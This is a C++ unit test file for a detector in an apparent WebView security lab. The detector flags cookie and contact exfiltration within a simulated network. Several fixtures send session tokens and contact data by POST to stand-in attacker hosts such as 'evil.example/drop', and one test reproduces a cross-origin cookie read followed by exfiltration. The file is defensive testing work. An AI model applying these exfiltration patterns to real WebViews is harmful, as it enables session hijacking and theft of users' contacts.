/*
 * Copyright 2026 The wvlab Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

#include "wvlab/detector.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>

#include "wvlab/form.hpp"
#include "wvlab/scenario.hpp"
#include "wvlab/servers.hpp"
#include "wvlab/webview.hpp"

using namespace wvlab;

namespace {

std::size_t high_count(const std::vector<Finding>& f, FindingKind k) {
  return static_cast<std::size_t>(std::count_if(f.begin(), f.end(), [k](const Finding& x) {
    return x.kind == k && x.severity == Severity::High;
  }));
}

NetRecord device_post(Tick tick, const std::string& url, std::string body) {
  return NetRecord{tick, build_request(Method::Post, url, {}, std::move(body)), HttpResponse{}, std::nullopt,
                   Initiator::Device};
}

CookieProvenance cookie_from(const std::string& value, Tick created, const std::string& host) {
  return {Cookie{"sessionid", value, host, "/", created}, Origin{"http", host, 80}};
}

}  // namespace

TEST(Analyze, EmptyLogs) {
  EXPECT_TRUE(analyze({}).empty());
}

TEST(Analyze, CookieStealRun) {
  const auto r = run_scenario(*find_builtin("cookie_steal"));
  ASSERT_FALSE(r.collector_payloads.empty());
  EXPECT_EQ(high_count(r.findings, FindingKind::CookieExfiltration), r.collector_payloads.size());
  for (const auto& f : r.findings) {
    EXPECT_EQ(f.evidence.sink_origin, (Origin{"http", "evilscript", 80}));
    EXPECT_EQ(f.evidence.source_origin, (Origin{"http", "victim.example", 80}));
    EXPECT_EQ(f.evidence.datum, "sessionid=s00000001");
    EXPECT_TRUE(f.evidence.audit_tick);
  }
  // Cross-check against the collector's own record of what arrived.
  for (std::size_t i = 0; i < r.collector_payloads.size(); ++i) {
    EXPECT_EQ(r.findings[i].evidence.net_tick, r.collector_payloads[i].tick);
  }
}

TEST(Analyze, BenignRun) {
  EXPECT_TRUE(run_scenario(*find_builtin("benign_browse")).findings.empty());
}

TEST(Analyze, ContactExfilRun) {
  const auto r = run_scenario(*find_builtin("contact_exfil"));
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].kind, FindingKind::ContactExfiltration);
  EXPECT_EQ(r.findings[0].severity, Severity::High);
  EXPECT_EQ(r.findings[0].evidence.sink_origin.str(), "http://evilscript");
  EXPECT_EQ(r.findings[0].evidence.net_tick, r.collector_payloads.at(0).tick);
}

TEST(Analyze, ShortValuesAndSameOriginIgnored) {
  const std::vector<CookieProvenance> jar{cookie_from("s1", 1, "victim.example"),
                                          cookie_from("long-enough-token", 2, "victim.example")};
  const std::vector<NetRecord> net{
      device_post(5, "http://evilscript/x", "cookie=sessionid=s1"),
      device_post(6, "http://victim.example/post", "echo long-enough-token"),
      device_post(7, "http://evilscript/x", "stolen long-enough-token"),
  };
  const auto f = analyze({{}, net, jar, {}});
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].evidence.net_tick, 7u);
  EXPECT_EQ(kMinCookieValueLength, 8u);
}

TEST(Analyze, CookiesSetAfterTheRequestDoNotCount) {
  const std::vector<CookieProvenance> jar{cookie_from("0123456789", 9, "victim.example")};
  const std::vector<NetRecord> net{device_post(5, "http://evilscript/x", "0123456789")};
  EXPECT_TRUE(analyze({{}, net, jar, {}}).empty());
}

TEST(Analyze, ExternalTrafficIgnored) {
  const std::vector<CookieProvenance> jar{cookie_from("0123456789", 1, "victim.example")};
  std::vector<NetRecord> net{device_post(5, "http://evilscript/x", "0123456789")};
  net[0].initiator = Initiator::External;
  EXPECT_TRUE(analyze({{}, net, jar, {}}).empty());
}

TEST(Analyze, ContactsToVisitedOriginIgnored) {
  const std::vector<Contact> contacts{{"Bob", "+1-555-0101", "bob@example.org"}};
  const std::vector<AuditEvent> audit{{1, AuditKind::PageLoaded, "http://victim.example/", ""}};
  const std::vector<NetRecord> net{device_post(2, "http://victim.example/post", "text=call +1-555-0101"),
                                   device_post(3, "http://evilscript/c", "bob@example.org")};
  const auto f = analyze({audit, net, {}, contacts});
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].evidence.datum, "email:bob@example.org");
  EXPECT_EQ(f[0].evidence.net_tick, 3u);
}

TEST(Analyze, SameOriginBypassWitness) {
  Timeline timeline;
  VirtualNet net;
  Device device(timeline);
  BoardServer board("victim.example");
  CollectorServer evil;
  board.add_user("alice", "wonderland");
  net.register_server("victim.example", [&](const HttpRequest& r, Tick t) { return board.handle(r, t); });
  net.register_server("evil.example", [&](const HttpRequest& r, Tick t) {
    return r.method == Method::Get ? HttpResponse{200, {}, "<html>evil</html>"} : evil.handle(r, t);
  });
  device.grant(Permission::Internet);
  WebViewHost wv(device, net, timeline);

  wv.load_url("http://victim.example/login");
  wv.post_url("http://victim.example/login", form_encode({{"username", "alice"}, {"password", "wonderland"}}));
  wv.load_url("http://evil.example/");
  const auto cookie = wv.get_cookie_api("http://victim.example/account");
  ASSERT_TRUE(cookie);
  net.execute(build_request(Method::Post, "http://evil.example/drop", {}, "c=" + *cookie), timeline.next(),
              origin_of(wv.current_page()->url));

  const auto f = analyze({timeline.events(), net.log(), device.cookie_jar().history(), device.contacts()});
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(f[0].kind, FindingKind::CrossOriginCookieRead);
  EXPECT_EQ(f[0].severity, Severity::Info);
  EXPECT_EQ(f[0].evidence.sink_origin.str(), "http://evil.example");
  EXPECT_NE(f[0].evidence.net_tick, 0u);
  EXPECT_EQ(f[1].kind, FindingKind::CookieExfiltration);
  EXPECT_EQ(f[1].evidence.sink_origin.str(), "http://evil.example");
  EXPECT_LT(f[0].tick(), f[1].tick());
}

TEST(Analyze, MonotoneUnderBenignTraffic) {
  const auto r = run_scenario(*find_builtin("impersonate"));
  // NetRecords rebuilt from the report, then padded with benign traffic.
  std::vector<NetRecord> net;
  for (const auto& n : r.net_log) {
    net.push_back({n.tick, HttpRequest{n.method, parse_url(n.url), n.request_headers, n.request_body},
                   HttpResponse{n.status, n.response_headers, ""}, n.requester_origin, n.initiator});
  }
  const std::vector<CookieProvenance> jar{
      {Cookie{"sessionid", "s00000001", "victim.example", "/", 1}, Origin{"http", "victim.example", 80}}};
  const auto base = analyze({r.audit, net, jar, {}});
  ASSERT_FALSE(base.empty());

  std::mt19937_64 rng(21);
  for (int trial = 0; trial < 50; ++trial) {
    auto noisy = net;
    for (int k = 0; k < 10; ++k) {
      const Tick t = 1000 + static_cast<Tick>(rng() % 1000);
      noisy.push_back(rng() % 2 ? NetRecord{t, build_request(Method::Get, "http://victim.example/forum/list"),
                                            HttpResponse{}, std::nullopt, Initiator::Device}
                                : device_post(t, "http://cdn.example/log", "event=view&n=" + std::to_string(rng() % 100)));
    }
    std::sort(noisy.begin(), noisy.end(), [](const NetRecord& a, const NetRecord& b) { return a.tick < b.tick; });
    const auto more = analyze({r.audit, noisy, jar, {}});
    for (const auto& f : base) EXPECT_NE(std::find(more.begin(), more.end(), f), more.end());
  }
}

TEST(Analyze, SortedByTickThenKind) {
  const std::vector<Contact> contacts{{"Bob", "+1-555-0101", std::nullopt}};
  const std::vector<CookieProvenance> jar{cookie_from("0123456789", 1, "victim.example")};
  const std::vector<NetRecord> net{device_post(9, "http://evilscript/x", "+1-555-0101 0123456789"),
                                   device_post(4, "http://evilscript/x", "0123456789")};
  const auto f = analyze({{}, net, jar, contacts});
  ASSERT_EQ(f.size(), 3u);
  EXPECT_EQ(f[0].tick(), 4u);
  EXPECT_EQ(f[1].kind, FindingKind::CookieExfiltration);
  EXPECT_EQ(f[2].kind, FindingKind::ContactExfiltration);
}

TEST(PrecisionRecall, Definitions) {
  const Finding hit{FindingKind::CookieExfiltration, Severity::High, Evidence{"", {}, {}, 8, {}}};
  const Finding stray{FindingKind::ContactExfiltration, Severity::High, Evidence{"", {}, {}, 9, {}}};
  const std::vector<GroundTruthEvent> truth{{FindingKind::CookieExfiltration, 8}};

  auto pr = precision_recall(std::vector<Finding>{hit}, truth);
  EXPECT_EQ(pr.precision, 1.0);
  EXPECT_EQ(pr.recall, 1.0);

  pr = precision_recall({}, truth);
  EXPECT_EQ(pr.recall, 0.0);
  EXPECT_EQ(pr.false_negatives, 1u);

  pr = precision_recall(std::vector<Finding>{hit, stray}, truth);
  EXPECT_EQ(pr.precision, 0.5);
  EXPECT_EQ(pr.recall, 1.0);

  pr = precision_recall(std::vector<Finding>{hit, hit}, truth);
  EXPECT_EQ(pr.precision, 0.5);

  pr = precision_recall(std::vector<Finding>{stray}, {});
  EXPECT_EQ(pr.precision, 0.0);
  EXPECT_EQ(pr.recall, 1.0);
}
